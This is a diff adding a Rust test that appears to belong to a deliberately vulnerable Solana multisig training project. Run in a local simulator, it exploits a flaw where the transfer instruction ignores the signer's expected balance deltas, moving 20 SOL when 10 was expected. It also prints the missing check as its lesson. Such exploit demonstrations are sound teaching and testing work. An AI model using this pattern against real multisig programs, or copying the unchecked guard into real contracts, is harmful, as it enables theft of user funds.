@@ -0,0 +1,154 @@
+// Exploit: Expected Outcome Ignored (Missing Simulation Guard)
+//
+// Vulnerability: V021 - The execute_transfer_proposal instruction accepts an
+// optional expected outcome (vault and recipient balance deltas) but never
+// compares it with what the transfer actually did.
+//
+// Attack: The executor's wallet simulated a transfer of half the amount, signs
+// with that expectation attached, and the program moves the full amount anyway.
+//
+// Result: The guard clients rely on to catch a stale or tampered transaction
+// is a no-op - more SOL leaves the vault than the signer agreed to.
+
+mod utils;
+
+use utils::*;
+
+use litesvm::types::TransactionResult;
+use solana_sdk::{
+    native_token::LAMPORTS_PER_SOL,
+    pubkey::Pubkey,
+    signature::{Keypair, Signer},
+};
+
+const TRANSFER_AMOUNT: u64 = 20 * LAMPORTS_PER_SOL;
+const EXPECTED_AMOUNT: u64 = 10 * LAMPORTS_PER_SOL;
+
+struct OutcomeMismatch;
+
+struct OutcomeMismatchState {
+    scenario: MultisigScenario,
+    recipient: Keypair,
+    transfer_proposal_pda: Pubkey,
+    vault_balance_before: u64,
+}
+
+impl ExploitScenario for OutcomeMismatch {
+    type State = OutcomeMismatchState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V021",
+            title: "Expected Outcome Ignored",
+            severity: Severity::High,
+            lesson: "Compare the actual balance deltas with expected_outcome after the transfer and fail on mismatch",
+        }
+    }
+
+    fn setup(&self) -> OutcomeMismatchState {
+        println!("[Scenario] Executor signs an execution expecting half the approved amount");
+
+        let mut scenario = setup_multisig_scenario(1, 0); // threshold = 1, timelock = 0
+
+        let owners = vec![
+            (scenario.creator.pubkey(), MemberRole::Admin),
+            (scenario.member1.pubkey(), MemberRole::Proposer),
+            (scenario.member2.pubkey(), MemberRole::Executor),
+        ];
+
+        create_multisig_with_owners(
+            &mut scenario.svm,
+            &scenario.creator,
+            &scenario.multisig_pda,
+            &scenario.vault_pda,
+            scenario.multisig_id,
+            1, // threshold
+            0, // timelock
+            &owners,
+        );
+
+        println!("[Setup] Funding vault with {} SOL...", TRANSFER_AMOUNT / LAMPORTS_PER_SOL);
+        fund_vault(&mut scenario.svm, &scenario.vault_pda, TRANSFER_AMOUNT);
+
+        let recipient = create_funded_account(&mut scenario.svm, LAMPORTS_PER_SOL);
+
+        // Member1 proposes the full amount
+        let proposal_count = get_multisig_proposal_count(&scenario.svm, &scenario.multisig_pda);
+        let (transfer_proposal_pda, _) =
+            derive_transfer_proposal_pda(&scenario.multisig_pda, proposal_count);
+
+        let create_transfer_ix = build_create_transfer_proposal_ix(
+            &scenario.member1.pubkey(),
+            &scenario.multisig_pda,
+            &transfer_proposal_pda,
+            TRANSFER_AMOUNT,
+            &recipient.pubkey(),
+        );
+
+        send_tx_expect_success(
+            &mut scenario.svm,
+            create_transfer_ix,
+            &scenario.member1,
+            &[&scenario.member1],
+        );
+
+        println!("[Setup] Proposal created for {} SOL", TRANSFER_AMOUNT / LAMPORTS_PER_SOL);
+
+        let vault_balance_before = scenario.svm.get_balance(&scenario.vault_pda)
+            .expect("Vault should exist");
+
+        OutcomeMismatchState {
+            scenario,
+            recipient,
+            transfer_proposal_pda,
+            vault_balance_before,
+        }
+    }
+
+    fn exploit(&self, state: &mut OutcomeMismatchState) -> TransactionResult {
+        let scenario = &mut state.scenario;
+
+        // The executor's simulation (stale or tampered) says only half moves
+        println!("\n[Attack] Executor attaches expected deltas of {} SOL...", EXPECTED_AMOUNT / LAMPORTS_PER_SOL);
+        println!("[Attack] Proposal actually transfers {} SOL", TRANSFER_AMOUNT / LAMPORTS_PER_SOL);
+
+        let execute_ix = build_execute_transfer_proposal_with_outcome_ix(
+            &scenario.member2.pubkey(),
+            &scenario.multisig_pda,
+            &state.transfer_proposal_pda,
+            &scenario.vault_pda,
+            &state.recipient.pubkey(),
+            EXPECTED_AMOUNT, // vault delta
+            EXPECTED_AMOUNT, // recipient delta
+        );
+        send_ix(&mut scenario.svm, execute_ix, &scenario.member2)
+    }
+
+    fn assert_impact(&self, state: &mut OutcomeMismatchState) -> u64 {
+        let svm = &state.scenario.svm;
+        println!("[VULNERABLE] Execution succeeded despite the mismatched expected outcome!");
+
+        let vault_balance_after = svm.get_balance(&state.scenario.vault_pda).unwrap_or(0);
+        let vault_delta = state.vault_balance_before - vault_balance_after;
+        let unexpected = vault_delta - EXPECTED_AMOUNT;
+
+        assert_eq!(vault_delta, TRANSFER_AMOUNT);
+
+        println!("[EXPLOIT SUCCESS] Expected vault delta: {} SOL", EXPECTED_AMOUNT / LAMPORTS_PER_SOL);
+        println!("[EXPLOIT SUCCESS] Actual vault delta: {} SOL", vault_delta / LAMPORTS_PER_SOL);
+        println!("[EXPLOIT SUCCESS] Moved beyond expectation: {} SOL", unexpected / LAMPORTS_PER_SOL);
+
+        println!("\n[Analysis] The vulnerable code is missing this check:");
+        println!("           require!(");
+        println!("               vault_before.checked_sub(vault.lamports()) == Some(expected.vault_delta),");
+        println!("               MultisigError::OutcomeMismatch");
+        println!("           );");
+
+        unexpected
+    }
+}
+
+#[test]
+fn test_exploit_outcome_mismatch() {
+    run_exploit(&OutcomeMismatch);
+}